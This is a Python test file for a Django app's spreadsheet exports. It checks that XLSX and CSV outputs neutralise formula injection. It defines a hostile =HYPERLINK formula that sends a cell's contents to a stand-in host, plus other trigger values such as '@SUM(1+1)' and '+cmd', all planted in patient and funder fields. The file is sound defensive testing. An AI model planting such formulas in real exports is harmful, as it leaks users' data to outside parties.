"""No export carries a live formula: every XLSX and CSV the app writes goes through one helper."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from escorter.roles import Role
from escorter.spreadsheets import FORMULA_TRIGGERS, neutralise
from patients.models import PatientImport
from reporting.models import Funder
from reporting.periods import Month
from reporting.services import reports
from tests.factories import CommuneFactory, FunderFactory
from tests.patients.factories import PatientFactory
from tests.reporting.factories import ExpenseFactory, FundingLineFactory, make_patient

HOSTILE = '=HYPERLINK("http://exemple.invalid/?x="&A1,"Cliquez")'


def _assert_no_live_formula_in_xlsx(content: bytes) -> int:
    """No formula element in the sheets' XML, no text cell a spreadsheet would evaluate."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name)
                assert b"<f>" not in xml and b"<f " not in xml, (
                    name,
                    xml[xml.find(b"<f") - 200 : xml.find(b"<f") + 200],
                )
    checked = 0
    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.coordinate
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_TRIGGERS), (sheet.title, cell.coordinate, cell.value)
                    checked += "HYPERLINK" in cell.value
    return checked


def _assert_no_live_formula_in_csv(text: str) -> int:
    checked = 0
    for row in csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"):
        for value in row:
            assert not value.startswith(FORMULA_TRIGGERS), value
            checked += "HYPERLINK" in value
    return checked


@pytest.mark.parametrize("value", ["=1+1", "+33 6", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["Hérault", "", 12, -3.5, dt.date(2026, 1, 2), None, True])
def test_other_values_are_left_alone(value):
    assert neutralise(value) == value


@pytest.mark.django_db
def test_waiting_list_xlsx_carries_no_live_formula(client, login_as):
    PatientFactory(last_name=HOSTILE, first_names="@SUM(1+1)")
    login_as(Role.COORDINATOR)
    response = client.get("/patients/export.xlsx")
    assert response.status_code == 200
    assert _assert_no_live_formula_in_xlsx(response.content) == 1
    rows = list(load_workbook(io.BytesIO(response.content)).active.iter_rows(min_row=2, values_only=True))
    assert rows[0][3] == "'" + HOSTILE.upper() and rows[0][4] == "'@SUM(1+1)"


@pytest.mark.django_db
def test_funding_xlsx_carries_no_live_formula(client, login_as):
    line = FundingLineFactory(label=HOSTILE, funder=FunderFactory(name="-ARS"))
    ExpenseFactory(line=line, supplier=HOSTILE, note="+cmd", amount=Decimal("10.00"))
    login_as(Role.COORDINATOR)
    response = client.get("/rapports/financements/export.xlsx")
    assert response.status_code == 200
    assert _assert_no_live_formula_in_xlsx(response.content) == 3
    expenses = list(load_workbook(io.BytesIO(response.content))["Dépenses"].iter_rows(min_row=2, values_only=True))
    assert expenses[0][7] == 10.0  # figures stay figures


@pytest.mark.django_db
def test_funder_report_xlsx_and_csv_carry_no_live_formula(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    settings.ESCORTER_TERRITORY_NAME = "=CPTS"
    funder = FunderFactory(name=HOSTILE, kind=Funder.Kind.ARS)
    commune = CommuneFactory(insee_code="85047", name=HOSTILE, epci_name=HOSTILE)
    for _ in range(12):
        make_patient(commune=commune, tier="P1")
    report = reports.request_monthly_report(audience=funder, month=Month(2026, 10))
    report = reports.build_report(report_id=report.pk).report
    assert _assert_no_live_formula_in_xlsx(Path(report.file_for("xlsx").path).read_bytes()) >= 1
    assert _assert_no_live_formula_in_csv(Path(report.file_for("csv").path).read_text(encoding="utf-8")) >= 1


@pytest.mark.django_db
def test_import_error_report_carries_no_live_formula(client, login_as, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    CommuneFactory(insee_code="85012")
    login_as(Role.COORDINATOR)
    content = f"Nom;Prénom;Date de naissance;Code INSEE\nHérault;Léa;{HOSTILE};85012\n".encode()
    client.post("/patients/import/", {"file": SimpleUploadedFile("l.csv", content), "source": "cpam"})
    batch = PatientImport.objects.get()
    response = client.get(f"/patients/import/{batch.pk}/erreurs.csv")
    assert response.status_code == 200
    assert _assert_no_live_formula_in_csv(response.content.decode("utf-8")) >= 1
